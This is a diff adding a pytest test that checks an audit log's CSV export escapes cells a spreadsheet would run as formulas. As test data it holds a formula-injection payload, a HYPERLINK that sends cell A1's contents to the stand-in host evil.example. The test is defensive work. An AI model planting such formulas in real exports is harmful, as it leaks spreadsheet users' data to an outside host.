@@ -216,3 +216,24 @@ def test_query_count_is_pinned_and_independent_of_page_size(
         client.get(AUDIT)
 
     assert len(full) == len(one) <= MAX_QUERIES
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_export_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(
+    client_for, approver, db, start
+):
+    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
+    audit.record(f"{start}mallory", "stack.updated", source=AuditSource.CONSOLE,
+                 object_type="regions.stack", object_id=f"{start}7", object_repr=formula)
+    audit.record("ada-admin", "stack.updated", source=AuditSource.CONSOLE,
+                 object_type="regions.stack", object_repr="a-b = c", after={"n": -1})
+
+    response = client_for(approver).get(AUDIT_CSV)
+    header, attacked, plain = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
+
+    cell = dict(zip(header, attacked, strict=True))
+    assert cell["actor"] == f"'{start}mallory"
+    assert cell["object_id"] == f"'{start}7"
+    assert cell["object_repr"] == f"'{formula}"
+    cell = dict(zip(header, plain, strict=True))
+    assert (cell["actor"], cell["object_repr"], cell["after"]) == ("ada-admin", "a-b = c", '{"n": -1}')
